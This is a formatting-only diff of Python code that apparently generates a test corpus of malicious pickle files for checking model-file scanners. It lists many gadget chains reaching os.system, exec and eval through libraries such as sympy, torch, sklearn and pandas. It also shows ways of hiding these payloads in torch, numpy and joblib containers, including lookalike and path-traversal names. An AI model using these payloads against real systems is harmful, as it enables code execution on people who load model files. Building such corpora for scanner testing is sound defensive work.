@@ -15,7 +15,22 @@ from _compat_pickle import IMPORT_MAPPING
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
-from attacks.case import EXPRESSION, SHELL, STATEMENT, Case, Raw, call, called, glob, long, one, push, stack_glob, stream, system
+from attacks.case import (
+    EXPRESSION,
+    SHELL,
+    STATEMENT,
+    Case,
+    Raw,
+    call,
+    called,
+    glob,
+    long,
+    one,
+    push,
+    stack_glob,
+    stream,
+    system,
+)
 from attacks.containers import EVIL, GOOD, legacy, npy, tarred, torch_zip, zipped
 from attacks.corpus import all_cases, write_cases
 from attacks.polyglot import polyglots, torch_states
@@ -51,19 +66,41 @@ def evaluators() -> dict[str, Raw]:
         "torch-fx-forward": call("torch.fx.graph_module", "_forward_from_src", STATEMENT + "\nforward = 1", {}),
         "sympy-eval-expr": call("sympy.parsing.sympy_parser", "eval_expr", EXPRESSION, {}, {}),
         "attrs-compile": call("attr._make", "_linecache_and_compile", STATEMENT, "x", {}),
-        "forward-ref": method("typing", "ForwardRef._evaluate", call("typing", "ForwardRef", EXPRESSION), {}, {}, call("builtins", "frozenset")),
+        "forward-ref": method(
+            "typing",
+            "ForwardRef._evaluate",
+            call("typing", "ForwardRef", EXPRESSION),
+            {},
+            {},
+            call("builtins", "frozenset"),
+        ),
         "sympy-simplify": call("sympy", "simplify", EXPRESSION),
         "sympy-n": call("sympy", "N", EXPRESSION),
         "sympy-lambdify": called(call("sympy", "lambdify", (), EXPRESSION)),
-        "torch-benchmark-timer": method("torch.utils.benchmark", "Timer.timeit", call("torch.utils.benchmark", "Timer", STATEMENT), 1),
+        "torch-benchmark-timer": method(
+            "torch.utils.benchmark", "Timer.timeit", call("torch.utils.benchmark", "Timer", STATEMENT), 1
+        ),
         "dill-eval-repr": call("dill._dill", "_eval_repr", EXPRESSION),
         "python-api": call("ctypes", "pythonapi.PyRun_SimpleString", STATEMENT.encode()),
         "source-to-code": call("builtins", "exec", call("importlib.abc", "InspectLoader.source_to_code", STATEMENT)),
-        "type-hints-of-namespace": call("typing", "get_type_hints", built(call("argparse", "Namespace"), {"__annotations__": {"weight": EXPRESSION}})),
-        "logging-factory": call("logging.config", "dictConfig", {"version": 1, "filters": {"f": {"()": "os.system", "command": SHELL}}}),
+        "type-hints-of-namespace": call(
+            "typing",
+            "get_type_hints",
+            built(call("argparse", "Namespace"), {"__annotations__": {"weight": EXPRESSION}}),
+        ),
+        "logging-factory": call(
+            "logging.config", "dictConfig", {"version": 1, "filters": {"f": {"()": "os.system", "command": SHELL}}}
+        ),
         "hydra-get-method": called(call("hydra.utils", "get_method", "os.system"), SHELL),
-        "entry-point-load": called(method("importlib.metadata", "EntryPoint.load", call("importlib.metadata", "EntryPoint", "a", "os:system", "g")), SHELL),
-        "cloudpickle-subimport": called(call("builtins", "getattr", call("cloudpickle.cloudpickle", "subimport", "os"), "system"), SHELL),
+        "entry-point-load": called(
+            method(
+                "importlib.metadata", "EntryPoint.load", call("importlib.metadata", "EntryPoint", "a", "os:system", "g")
+            ),
+            SHELL,
+        ),
+        "cloudpickle-subimport": called(
+            call("builtins", "getattr", call("cloudpickle.cloudpickle", "subimport", "os"), "system"), SHELL
+        ),
         "dataclass-create-fn": call("dataclasses", "_create_fn", "f", [f"x={EXPRESSION}"], ["pass"]),
     }
 
@@ -78,10 +115,25 @@ def callers() -> dict[str, Raw]:
         "numpy-no-warnings": call("numpy.testing", "assert_no_warnings", OS_SYSTEM, SHELL),
         "numpy-assert-raises": call("numpy.testing", "assert_raises", glob("builtins", "OSError"), OS_SYSTEM, SHELL),
         "scipy-function-wrapper": called(call("scipy._lib._util", "_FunctionWrapper", OS_SYSTEM, ()), SHELL),
-        "scipy-map-wrapper": call("builtins", "list", called(call("scipy._lib._util", "MapWrapper"), OS_SYSTEM, [SHELL])),
-        "sklearn-func-wrapper": called(built(call("sklearn.utils.parallel", "_FuncWrapper", OS_SYSTEM), {"config": {}, "warning_filters": []}), SHELL),
-        "sklearn-function-transformer": method("sklearn.preprocessing", "FunctionTransformer.transform", call("sklearn.preprocessing", "FunctionTransformer", OS_SYSTEM), SHELL),
-        "sklearn-transformer-state": method("sklearn.preprocessing", "FunctionTransformer.transform", built(call("sklearn.preprocessing", "FunctionTransformer"), {"func": OS_SYSTEM}), SHELL),
+        "scipy-map-wrapper": call(
+            "builtins", "list", called(call("scipy._lib._util", "MapWrapper"), OS_SYSTEM, [SHELL])
+        ),
+        "sklearn-func-wrapper": called(
+            built(call("sklearn.utils.parallel", "_FuncWrapper", OS_SYSTEM), {"config": {}, "warning_filters": []}),
+            SHELL,
+        ),
+        "sklearn-function-transformer": method(
+            "sklearn.preprocessing",
+            "FunctionTransformer.transform",
+            call("sklearn.preprocessing", "FunctionTransformer", OS_SYSTEM),
+            SHELL,
+        ),
+        "sklearn-transformer-state": method(
+            "sklearn.preprocessing",
+            "FunctionTransformer.transform",
+            built(call("sklearn.preprocessing", "FunctionTransformer"), {"func": OS_SYSTEM}),
+            SHELL,
+        ),
         "joblib-parallel": called(call("joblib", "Parallel"), [task]),
         "pandas-pipe": call("pandas.core.common", "pipe", SHELL, OS_SYSTEM),
         "pandas-apply-if-callable": call("pandas.core.common", "apply_if_callable", OS_SYSTEM, SHELL),
@@ -89,27 +141,53 @@ def callers() -> dict[str, Raw]:
         "pandas-series-apply": method("pandas", "Series.apply", series, OS_SYSTEM),
         "pandas-map-infer": call("pandas._libs.lib", "map_infer", call("numpy", "array", [SHELL], "O"), OS_SYSTEM),
         "torch-tree-map": call("torch.utils._pytree", "tree_map", OS_SYSTEM, SHELL),
-        "torch-run-function": call("torch.distributed.rpc.internal", "_run_function", call("torch.distributed.rpc.internal", "PythonUDF", OS_SYSTEM, (SHELL,), {})),
+        "torch-run-function": call(
+            "torch.distributed.rpc.internal",
+            "_run_function",
+            call("torch.distributed.rpc.internal", "PythonUDF", OS_SYSTEM, (SHELL,), {}),
+        ),
         "torch-checkpoint": call("torch.utils.checkpoint", "checkpoint", OS_SYSTEM, SHELL),
         "torch-no-grad": called(called(call("torch", "no_grad"), OS_SYSTEM), SHELL),
         "heapq-key": call("heapq", "nlargest", 1, [SHELL], OS_SYSTEM),
         "groupby-key": call("builtins", "list", call("itertools", "groupby", [SHELL], OS_SYSTEM)),
         "takewhile": call("builtins", "list", call("itertools", "takewhile", OS_SYSTEM, [SHELL])),
-        "filterfalse-zip": call("builtins", "dict", call("builtins", "zip", call("itertools", "filterfalse", OS_SYSTEM, [SHELL]), [1])),
+        "filterfalse-zip": call(
+            "builtins", "dict", call("builtins", "zip", call("itertools", "filterfalse", OS_SYSTEM, [SHELL]), [1])
+        ),
         "counter-of-map": call("collections", "Counter", call("builtins", "map", OS_SYSTEM, [SHELL])),
-        "ordered-dict-of-map": call("collections", "OrderedDict", call("builtins", "zip", call("builtins", "map", OS_SYSTEM, [SHELL]), [1])),
+        "ordered-dict-of-map": call(
+            "collections", "OrderedDict", call("builtins", "zip", call("builtins", "map", OS_SYSTEM, [SHELL]), [1])
+        ),
         "numpy-fromiter-map": call("numpy", "fromiter", call("builtins", "map", OS_SYSTEM, [SHELL]), "i8"),
-        "default-factory": call("operator", "getitem", call("collections", "defaultdict", call("functools", "partial", OS_SYSTEM, SHELL)), "w"),
-        "json-default-state": method("json", "JSONEncoder.encode", built(call("json", "JSONEncoder"), {"default": OS_SYSTEM}), SHELL.encode()),
+        "default-factory": call(
+            "operator",
+            "getitem",
+            call("collections", "defaultdict", call("functools", "partial", OS_SYSTEM, SHELL)),
+            "w",
+        ),
+        "json-default-state": method(
+            "json", "JSONEncoder.encode", built(call("json", "JSONEncoder"), {"default": OS_SYSTEM}), SHELL.encode()
+        ),
         "set-update-map": call("builtins", "frozenset", call("builtins", "map", OS_SYSTEM, [SHELL])),
-        "str-join-map": method("builtins", "str.join", Raw(push("")), call("builtins", "map", call("functools", "partial", OS_SYSTEM), [SHELL])),
-        "extend-from-map": Raw(push([]) + b"0" + method("builtins", "list.extend", Raw(push([])), call("builtins", "map", OS_SYSTEM, [SHELL]))),
+        "str-join-map": method(
+            "builtins",
+            "str.join",
+            Raw(push("")),
+            call("builtins", "map", call("functools", "partial", OS_SYSTEM), [SHELL]),
+        ),
+        "extend-from-map": Raw(
+            push([])
+            + b"0"
+            + method("builtins", "list.extend", Raw(push([])), call("builtins", "map", OS_SYSTEM, [SHELL]))
+        ),
         "context-run": method("contextvars", "Context.run", call("contextvars", "Context"), OS_SYSTEM, SHELL),
         "lru-cache": called(called(call("functools", "lru_cache", 1), OS_SYSTEM), SHELL),
         "single-dispatch": called(call("functools", "singledispatch", OS_SYSTEM), SHELL),
         "profile-runcall": method("cProfile", "Profile.runcall", call("cProfile", "Profile"), OS_SYSTEM, SHELL),
         "method-type": called(call("types", "MethodType", OS_SYSTEM, SHELL)),
-        "torch-rebuild-from-type": call("torch._tensor", "_rebuild_from_type", OS_SYSTEM, glob("torch", "Tensor"), (SHELL,), {}),
+        "torch-rebuild-from-type": call(
+            "torch._tensor", "_rebuild_from_type", OS_SYSTEM, glob("torch", "Tensor"), (SHELL,), {}
+        ),
     }
 
 
@@ -248,7 +326,16 @@ def state(data: bytes) -> bytes:
 
 
 def item(data: bytes) -> bytes:
-    return b"\x80\x04" + call("collections", "OrderedDict") + b"(" + long("bias") + b"N" + long("layer.0.weight") + data[:-1] + b"u."
+    return (
+        b"\x80\x04"
+        + call("collections", "OrderedDict")
+        + b"("
+        + long("bias")
+        + b"N"
+        + long("layer.0.weight")
+        + data[:-1]
+        + b"u."
+    )
 
 
 def array(data: bytes) -> bytes:
@@ -269,18 +356,48 @@ FORMS: dict[str, tuple[Callable[[bytes], bytes], str, str, str]] = {
     "item": (item, "model.pkl", "pickle", "as an item of a state dict"),
     "array": (array, "model.pkl", "pickle", "after an honest numpy array"),
     "torch": (torch_zip, "model.pt", "torch", "torch archive"),
-    "torch-item": (lambda d: torch_zip(item(d), top="мodel"), "мodel.pt", "torch", "torch archive with a Cyrillic folder and name"),
+    "torch-item": (
+        lambda d: torch_zip(item(d), top="мodel"),
+        "мodel.pt",
+        "torch",
+        "torch archive with a Cyrillic folder and name",
+    ),
     "torch-legacy": (lambda d: legacy(3).replace(NESTED, d), "model.bin", "torch", "torch's older form, third stream"),
-    "torch-many": (lambda d: torch_zip(d, more=tuple((f"archive/data/{n}", bytes(64)) for n in range(99))), "model.ckpt", "torch", "among 99 storages"),
+    "torch-many": (
+        lambda d: torch_zip(d, more=tuple((f"archive/data/{n}", bytes(64)) for n in range(99))),
+        "model.ckpt",
+        "torch",
+        "among 99 storages",
+    ),
     "zlib-0": (lambda d: zlib.compress(junk(d), 0), "model.dat", "joblib", "zlib of level 0"),
     "xz": (lambda d: lzma.compress(dead(d)), "model.sav", "joblib", "xz around a dead branch"),
     "bz2-split": (lambda d: bz2.compress(d[:9], 1) + bz2.compress(d[9:], 9), "model", "joblib", "two bzip2 streams"),
     "npy-2": (lambda d: npy_long(d, 2), "weights.npy", "numpy", "npy version 2 with a header of 4 KB"),
     "npy-3": (lambda d: npy_long(d, 3), "веса.npy", "numpy", "npy version 3 with a Unicode field"),
-    "npz": (lambda d: zipped([("a.npy", npy("<f4", bytes(4))), ("b", npy("|O", d))], comment=b"arrays"), "weights.bin", "numpy", "npz member without its suffix"),
-    "npz-deflated": (lambda d: zipped([("a.npy", npy("|O", d))], method=8), "weights.zip", "numpy", "deflated npz under another name"),
-    "pandas-tar": (lambda d: tarred([("Ünï/../x", item(d))], "w"), "frame.pkl.tar", "pandas", "tar member with a strange name"),
-    "pandas-zip": (lambda d: zipped([("/etc/x", d)], method=14), "frame.pkl.zip", "pandas", "lzma zip member with an absolute name"),
+    "npz": (
+        lambda d: zipped([("a.npy", npy("<f4", bytes(4))), ("b", npy("|O", d))], comment=b"arrays"),
+        "weights.bin",
+        "numpy",
+        "npz member without its suffix",
+    ),
+    "npz-deflated": (
+        lambda d: zipped([("a.npy", npy("|O", d))], method=8),
+        "weights.zip",
+        "numpy",
+        "deflated npz under another name",
+    ),
+    "pandas-tar": (
+        lambda d: tarred([("Ünï/../x", item(d))], "w"),
+        "frame.pkl.tar",
+        "pandas",
+        "tar member with a strange name",
+    ),
+    "pandas-zip": (
+        lambda d: zipped([("/etc/x", d)], method=14),
+        "frame.pkl.zip",
+        "pandas",
+        "lzma zip member with an absolute name",
+    ),
 }
 
 
@@ -368,7 +485,9 @@ def dotted(data: bytes) -> bool:
 
 def renamed(data: bytes) -> bool:
     """Whether the unpickler finds a name under its name in Python 2 only, which a header above 2 forbids."""
-    names = [str(argument).split(" ")[0] for info, argument, _ in pickletools.genops(data) if info.name in {"GLOBAL", "INST"}]
+    names = [
+        str(argument).split(" ")[0] for info, argument, _ in pickletools.genops(data) if info.name in {"GLOBAL", "INST"}
+    ]
     return any(name in IMPORT_MAPPING for name in names)
 
 
